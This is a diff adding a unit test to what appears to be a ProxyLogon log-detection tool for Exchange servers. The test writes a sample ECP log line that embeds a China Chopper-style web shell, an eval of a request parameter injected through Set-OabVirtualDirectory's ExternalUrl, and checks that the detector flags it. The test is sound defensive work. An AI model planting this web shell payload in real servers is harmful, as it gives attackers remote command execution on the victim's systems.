@@ -99,3 +99,18 @@ def test_shell_locations_by_url() -> None:
     for product in ("/owa/auth/logon.aspx", "/ecp/default.aspx", "/EWS/Exchange.asmx",
                     "/ecp/PersonalSettings/HomePage.aspx", "/owa/auth/x.js", "/owa/"):
         assert not is_shell_location(product), product
+
+
+def test_script_in_a_vdir_url_without_csv_quoting_is_still_seen(judge: Judge, tmp_path: Path) -> None:
+    # As the helsecert write-up shows the line: EventData not wrapped in CSV quotes, so its
+    # commas split it into extra columns that the reader must join back.
+    log = tmp_path / "ECPServer20210303-1.LOG"
+    log.write_text(
+        "#Fields: TimeStamp,ServerName,EventId,EventData\n"
+        "2021-03-03T06:49:53.772Z,EXCH01,ECP.Request,S:TIME=4365;'S:CMD=Set-OabVirtualDirectory."
+        "ExternalUrl=''http://f/<script language=\"\"JScript\"\" runat=\"\"server\"\">function "
+        "Page_Load(){eval(Request[\"\"klk123456\"\"],\"\"unsafe\"\");}</script>''.Identity="
+        "''982d48c8''';S:REQID=;S:EX=\n")
+    found = by_check(judge(RecordKind.ECP_SERVER, log), "proxylogon.vdir-script")
+    assert [f.stage for f in found] == [Stage.EXPLOIT]
+    assert "klk123456" in found[0].evidence
